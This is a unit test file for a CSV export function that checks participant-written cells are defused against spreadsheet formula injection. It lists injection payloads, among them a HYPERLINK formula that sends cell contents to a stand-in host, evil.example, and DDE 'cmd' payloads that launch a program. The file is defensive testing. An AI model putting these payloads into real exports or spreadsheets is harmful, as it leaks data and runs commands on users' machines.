import type { TIdeaExport, TQuestionAnswerView } from '@crowd/contracts';
import { ideaExportCsv } from './idea-export.csv';

const textAnswer = (answer: string, questionText = 'Why?'): TQuestionAnswerView => ({
  questionId: 1,
  questionType: 'TEXT',
  questionText,
  answer,
  optionIds: [],
  options: [],
});

const exportOf = (ideaName: string, answers: TQuestionAnswerView[], likerName = 'Liker'): TIdeaExport => ({
  ideaId: 1,
  ideaName,
  crowdId: 1,
  crowdTitle: 'Crowd',
  exportedAt: '2030-01-01T00:00:00.000Z',
  creationAnswers: answers,
  likeAnswers: [{ userName: likerName, likedAt: '2030-01-02T00:00:00.000Z', answers }],
});

/** A record as RFC 4180 writes it: a cell with a quote, comma or line break quoted, its quotes doubled. */
const record = (cells: string[]): string =>
  cells.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',') + '\r\n';

describe('ideaExportCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ["+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\uFF1D1+1'],
  ])('turns %j into text in every cell a participant wrote', (payload) => {
    const csv = ideaExportCsv(exportOf(payload, [textAnswer(payload, payload)], payload), payload, '2030');
    const text = `'${payload}`;
    expect(csv).toContain(record([text, 'creation', text, text, text, '2030']));
    expect(csv).toContain(record([text, 'like', text, text, text, '2030-01-02T00:00:00.000Z']));
  });

  it('keeps a line break inside its cell, so the next line cannot start a row with a formula', () => {
    const csv = ideaExportCsv(exportOf('Trees', [textAnswer('fine\r=1+1\n@SUM(1)')]), 'Ann', '2030');
    expect(csv).toContain(record(['Trees', 'creation', 'Why?', 'fine\r=1+1\n@SUM(1)', 'Ann', '2030']));
  });

  it('leaves ordinary text as written', () => {
    const csv = ideaExportCsv(exportOf('Trees, "shade"', [textAnswer('a - b = c')]), 'Ann', '2030');
    expect(csv).toContain(record(['Trees, "shade"', 'creation', 'Why?', 'a - b = c', 'Ann', '2030']));
  });
});
